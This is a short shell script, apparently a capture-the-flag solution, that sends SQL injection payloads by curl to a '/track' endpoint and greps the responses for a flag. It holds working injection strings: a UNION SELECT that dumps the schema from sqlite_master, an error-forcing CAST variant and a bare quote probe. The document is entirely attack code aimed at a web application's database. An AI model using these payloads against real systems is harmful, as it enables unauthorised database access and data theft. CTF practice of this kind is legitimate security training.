#-- hope that a row, or an error, is shown
for code in "X' UNION SELECT sql FROM sqlite_master --" "X' UNION SELECT CAST(sql AS INTEGER) FROM sqlite_master --" "'"; do
    curl -s -G http://app:8080/track --data-urlencode "code=$code"
done | grep -o 'flag{[0-9a-f]*}' || echo none
